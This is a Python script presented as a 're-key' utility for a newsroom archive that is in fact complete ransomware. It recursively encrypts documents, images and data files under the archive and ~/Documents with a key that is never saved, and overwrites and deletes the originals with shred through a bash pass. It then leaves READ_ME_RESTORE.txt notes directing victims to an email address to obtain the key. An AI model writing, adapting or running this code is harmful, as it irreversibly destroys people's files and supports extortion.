#!/usr/bin/env python3
"""'Re-key' the newsroom archive and shared documents.

Walks the archive and the user's documents, encrypts every file with a fresh
key that is never written locally, replaces the originals and leaves a note
explaining how to obtain the key.
"""
import argparse
import hashlib
import logging
import os
import secrets
import subprocess
import sys
import tempfile

LOG = logging.getLogger("rekey")
SUFFIX = ".nwslock"
TARGET_EXT = {".docx", ".odt", ".pdf", ".jpg", ".png", ".md", ".txt", ".json", ".csv", ".sql"}
NOTE = """Your newsroom archive has been encrypted.
Originals are gone. To receive the decryption key, contact
recover@desk-recovery.example.org with your node id: {node}
"""


class StreamCipher:
    """SHA-256 counter-mode keystream XOR."""

    def __init__(self, key):
        self.key = key

    def _keystream(self, nonce, length):
        out = bytearray()
        counter = 0
        while len(out) < length:
            out += hashlib.sha256(self.key + nonce + counter.to_bytes(8, "big")).digest()
            counter += 1
        return bytes(out[:length])

    def encrypt(self, data):
        nonce = secrets.token_bytes(16)
        ks = self._keystream(nonce, len(data))
        return nonce + bytes(a ^ b for a, b in zip(data, ks))


def find_targets(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = os.path.join(dirpath, name)
                if name.endswith(SUFFIX):
                    continue
                if os.path.splitext(name)[1].lower() in TARGET_EXT:
                    yield path


def encrypt_file(cipher, path):
    with open(path, "rb") as fh:
        data = fh.read()
    with open(path + SUFFIX, "wb") as fh:
        fh.write(cipher.encrypt(data))
    return len(data)


def remove_originals(paths):
    # Hand the list to a shell pass so originals are overwritten, then unlinked.
    with tempfile.NamedTemporaryFile("w", delete=False, suffix=".lst") as fh:
        fh.write("\0".join(paths))
        listing = fh.name
    script = 'xargs -0 -a "$REKEY_LIST" -r shred -u -z -n 1 2>/dev/null || xargs -0 -a "$REKEY_LIST" -r rm -f'
    try:
        subprocess.run(["bash", "-c", script], env=dict(os.environ, REKEY_LIST=listing),
                       check=False)
    finally:
        os.unlink(listing)


def drop_notes(roots, node):
    for root in roots:
        try:
            with open(os.path.join(root, "READ_ME_RESTORE.txt"), "w") as fh:
                fh.write(NOTE.format(node=node))
        except OSError as exc:
            LOG.debug("note failed in %s: %s", root, exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=[os.path.expanduser("~/newsroom/archive"),
                             os.path.expanduser("~/Documents")])
    ap.add_argument("--batch", type=int, default=200)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    roots = [r for r in args.roots if os.path.isdir(r)]
    if not roots:
        LOG.error("no archive roots found")
        return 1
    cipher = StreamCipher(secrets.token_bytes(32))
    node = secrets.token_hex(6)
    done, pending, total_bytes = 0, [], 0
    for path in find_targets(roots):
        try:
            total_bytes += encrypt_file(cipher, path)
        except OSError as exc:
            LOG.warning("skip %s: %s", path, exc)
            continue
        pending.append(path)
        done += 1
        if len(pending) >= args.batch:
            remove_originals(pending)
            pending = []
    if pending:
        remove_originals(pending)
    cipher.key = b""
    drop_notes(roots, node)
    LOG.info("re-keyed %d files (%d bytes), node %s", done, total_bytes, node)
    return 0


if __name__ == "__main__":
    sys.exit(main())
